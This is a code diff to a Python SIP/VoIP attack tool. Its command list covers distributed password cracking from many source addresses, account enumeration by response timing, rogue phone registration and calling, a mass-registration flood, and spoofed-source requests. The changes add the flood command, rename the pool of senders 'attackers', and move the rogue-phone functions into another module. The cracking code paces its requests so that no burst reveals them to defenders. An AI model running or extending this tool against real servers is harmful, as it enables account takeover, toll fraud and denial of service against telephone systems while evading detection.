@@ -8,6 +8,7 @@
   crack TARGET USER SOURCES        guess a password over UDP, TCP, TLS or WebSocket from many addresses at once
   enumerate TARGET USERS SOURCES   ask for accounts, with the time that each answer took
   phone TARGET USER SECRET         register as a telephone that was never here, and call
+  crowd TARGET USERS SOURCES       many telephones that register at once, as after a power failure
   forge TARGET SOURCES             send requests that seem to come from other addresses
 """
 from __future__ import annotations
@@ -20,8 +21,8 @@ import sys
 import time
 
 import cracker_requests as requests
-import sip
 import sip_line
+from cracker_phones import crowd, phone  # pylint: disable=unused-import  # functions of the command line
 
 MOST_SECONDS, MOST_GUESSES = 300.0, 1000000
 CALM = 0.25
@@ -139,27 +140,27 @@ def crack(target, user, sources, transport="udp", port=0, method="REGISTER", sec
     if transport != "udp":
         import cracker_streams
         return cracker_streams.crack(target, port, user, sources, transport, method, words, per_source, seconds, gap, pipelined, attempts_of_connection)
-    crowd = [Source(target, port, address, dialogs, method, user) for address in sources]
+    attackers = [Source(target, port, address, dialogs, method, user) for address in sources]
     count = Count()
     if prefetch:
-        _prefetch(crowd, count, prefetch)
+        _prefetch(attackers, count, prefetch)
         count.started = time.monotonic()
-    _guess(crowd, count, words, per_source, seconds, gap, pipelined)
+    _guess(attackers, count, words, per_source, seconds, gap, pipelined)
     return count.result(sources=len(sources))
 
 
-def _prefetch(crowd, count, seconds):
+def _prefetch(attackers, count, seconds):
     """One challenge for each dialog, evenly over the time, so that no burst gives it away."""
-    waiting = [(source, dialog) for source in crowd for dialog in source.dialogs]
+    waiting = [(source, dialog) for source in attackers for dialog in source.dialogs]
     for source, dialog in waiting:
         source.ask(dialog, count)
-        _listen(crowd, count, seconds / len(waiting))
-    _listen(crowd, count, 0.2)
+        _listen(attackers, count, seconds / len(waiting))
+    _listen(attackers, count, 0.2)
 
 
-def _listen(crowd, count, seconds):
+def _listen(attackers, count, seconds):
     """Wait at most that long; whoever has something is read."""
-    by_socket = {source.socket: source for source in crowd}
+    by_socket = {source.socket: source for source in attackers}
     end = time.monotonic() + seconds
     while True:
         for ready in select.select(list(by_socket), [], [], max(0.0, end - time.monotonic()))[0]:
@@ -168,12 +169,12 @@ def _listen(crowd, count, seconds):
             return
 
 
-def _guess(crowd, count, words, per_source, seconds, gap, pipelined):
+def _guess(attackers, count, words, per_source, seconds, gap, pipelined):
     """Round after round; without a gap nobody waits for anything but room in the queue."""
-    end, made, next_at = time.monotonic() + seconds, {source: 0 for source in crowd}, {source: 0.0 for source in crowd}
+    end, made, next_at = time.monotonic() + seconds, {source: 0 for source in attackers}, {source: 0.0 for source in attackers}
     while time.monotonic() < end and count.found is None:
         busy = False
-        for source in crowd:
+        for source in attackers:
             if per_source and made[source] >= per_source or time.monotonic() < next_at[source]:
                 continue
             done = _turn(source, count, words, pipelined, min(per_source - made[source], 1 if gap else per_source) if per_source else 1 if gap else 0)
@@ -184,7 +185,7 @@ def _guess(crowd, count, words, per_source, seconds, gap, pipelined):
             busy = busy or bool(done)
             if gap and done:
                 next_at[source] = time.monotonic() + gap
-        _listen(crowd, count, 0.0 if busy else 0.01)
+        _listen(attackers, count, 0.0 if busy else 0.01)
         if per_source and all(number >= per_source for number in made.values()):
             end = min(end, time.monotonic() + 1.0)
 
@@ -249,54 +250,6 @@ def _final(line, dialog, end):
         if answer and answer.call_id == dialog.call_id and answer.status >= 200:
             return answer
     return None
-
-
-def phone(target, user, secret, source="", sport=0, transport="udp", port=0, number="", seconds=8.0, subscribe=()):
-    """A telephone that was never here registers, subscribes to some extensions and calls a number: their final statuses, 0 for silence."""
-    line = sip_line.connect(transport, target, port, sport, source)
-    begun, home = time.monotonic(), line.uri()
-    series = sip.Dialog.new(line.server, user, f"sip:{user}@{line.server}")
-    found = {"register": _said(_challenged(line, "REGISTER", home, series, user, secret, [("expires", "120")], seconds))}
-    found["seconds"] = round(time.monotonic() - begun, 2)
-    for extension in subscribe:
-        uri = line.uri(extension)
-        headers = [("event", "dialog"), ("accept", "application/dialog-info+xml"), ("expires", "120")]
-        answer = _challenged(line, "SUBSCRIBE", uri, sip.Dialog.new(line.server, user, uri), user, secret, headers, seconds)
-        found.setdefault("subscribe", []).append(_said(answer))
-    if number:
-        uri = line.uri(number)
-        answer, request = sip_line.invite(line, sip.Dialog.new(line.server, user, uri), uri, seconds, (user, secret))
-        found["call"] = _said(answer)
-        if found["call"] in range(200, 300):
-            found["bye"] = _said(hang_up(line, request, answer, uri))
-    line.close()
-    return found
-
-
-def hang_up(line, request, answer, uri):
-    """The final response to the BYE."""
-    dialog = sip.Dialog.of(request)
-    dialog.remote, dialog.cseq = answer.get("to"), dialog.cseq + 1
-    return line.transact(line.request("BYE", sip.contact_of(answer, uri), dialog), 4.0)
-
-
-def _challenged(line, method, uri, dialog, user, secret, headers, seconds):
-    answer = line.transact(line.request(method, uri, dialog, headers), seconds, lambda message: _polite(line, message))
-    header = sip.authorize(answer, method, uri, user, secret) if answer is not None else []
-    if header:
-        dialog.cseq += 1
-        answer = line.transact(line.request(method, uri, dialog, headers + header), seconds, lambda message: _polite(line, message))
-    return answer
-
-
-def _polite(line, message):
-    """Requests of the host (NOTIFY, OPTIONS) are answered."""
-    if not message.status and message.method != "ACK":
-        line.respond(message, 200, "OK", "phone", tag="polite")
-
-
-def _said(answer):
-    return answer.status if answer is not None else 0
 
 
 def forge(target, sources, port=5060, sport=5060, method="REGISTER", user="106", count=1, via="", digest=True, gap=0.0):
